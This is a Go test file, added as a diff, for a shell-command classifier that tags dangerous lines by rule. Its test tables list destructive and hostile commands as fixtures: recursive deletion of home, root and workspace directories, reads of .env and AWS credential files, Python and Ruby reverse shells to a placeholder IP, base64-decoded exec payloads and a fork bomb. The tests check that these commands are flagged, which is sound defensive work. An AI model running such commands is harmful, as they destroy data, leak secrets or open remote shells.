@@ -1,0 +1,82 @@
+package classify
+
+import (
+	"strings"
+	"testing"
+)
+
+// rulesOf names the shipped rules that a line matches.
+func rulesOf(line string) string {
+	return strings.Join(Shipped().ruleIDs(line), " ")
+}
+
+func TestWhatIsFoundIsDeleted(t *testing.T) {
+	for line, want := range map[string]string{
+		`find /home -type f -exec rm -f {} \;`:                         "delete-home-or-root",
+		`find /home -type f -print0 | xargs -0 rm -f`:                  "delete-home-or-root",
+		`find . -type f -exec rm {} +`:                                 "delete-workspace",
+		`find . -name '*.go' -delete`:                                  "delete-workspace",
+		`find . ! -name keep -exec rm -rf {} +`:                        "delete-workspace",
+		`find . -name node_modules -prune -o -type f -exec rm {} +`:    "delete-workspace",
+		`git ls-files | xargs rm`:                                      "delete-workspace",
+		`ls | xargs rm -rf`:                                            "delete-workspace",
+		`Get-ChildItem C:\ -Recurse | Remove-Item -Force`:              "delete-home-or-root",
+		`find . -name '*.pyc' -exec rm {} +`:                           "",
+		`find . -name '*.tmp' -o -name '*.bak' | xargs rm -f`:          "",
+		`ls -t | tail -n +6 | xargs rm -f`:                             "",
+		`git ls-files -d | xargs rm -f`:                                "",
+		`find /tmp -type f -exec rm -f {} \;`:                          "",
+		`find . -type d -name node_modules -prune -exec rm -rf {} \;`:  "",
+		`find . -name '*.ts' -not -path './dist/*' | xargs grep token`: "",
+	} {
+		got := rulesOf(line)
+		if want == "" && (strings.Contains(got, "delete-workspace") || strings.Contains(got, "delete-home")) ||
+			!strings.Contains(got, want) {
+			t.Errorf("%s: got %q, want %q", line, got, want)
+		}
+	}
+}
+
+func TestFilterHidesValues(t *testing.T) {
+	for line, read := range map[string]bool{
+		"cat .env":                             true,
+		"cat .env | grep -E '(PORT|HOST)'":     false,
+		"cat .env | grep API_KEY":              true,
+		"cat .env | grep -v PORT":              true,
+		"cat .env | cut -d= -f1":               false,
+		"cat .env | sed 's/=.*/=x/' | sort":    false,
+		"cat .env | sort | sed 's/=.*/=x/'":    false,
+		"cat .env | sort":                      true,
+		"cat .env | wc -l":                     false,
+		"cat ~/.aws/credentials | grep region": false,
+	} {
+		if got := strings.Contains(rulesOf(line), "credential-file-read"); got != read {
+			t.Errorf("%s: read %v, want %v", line, got, read)
+		}
+	}
+}
+
+func TestCodeThatConnects(t *testing.T) {
+	for line, want := range map[string]string{
+		`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)'`: "reverse-shell",
+		`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",1);exec "/bin/sh -i <&3"'`:                         "reverse-shell",
+		`python3 -c 'import socket; print(socket.gethostname())'`:                                            "",
+		`python3 -c "exec(__import__('base64').b64decode('eA=='))"`:                                          "decoded-code",
+		`node -e "eval(Buffer.from('eA==','base64').toString())"`:                                            "decoded-code",
+		`node -e "console.log(Buffer.from('eA==','base64').toString())"`:                                     "",
+		`:(){ :|:& };:`:               "fork-bomb-function",
+		`f() { g | h; }; f`:           "",
+		`/bin/r? -rf x`:               "computed-name",
+		`HUSKY=0 git commit -m x`:     "guard-variable",
+		`NODE_ENV=test npm test`:      "",
+		`eval "$(direnv hook bash)"`:  "",
+		`del /s /q C:\*`:              "delete-home-or-root",
+		`rmdir /s /q C:\Users\me\app`: "delete",
+	} {
+		got := rulesOf(line)
+		bad := strings.Contains(got, "reverse-shell") || strings.Contains(got, "decoded-code") || strings.Contains(got, "fork-bomb")
+		if want == "" && bad || !strings.Contains(got, want) {
+			t.Errorf("%s: got %q, want %q", line, got, want)
+		}
+	}
+}
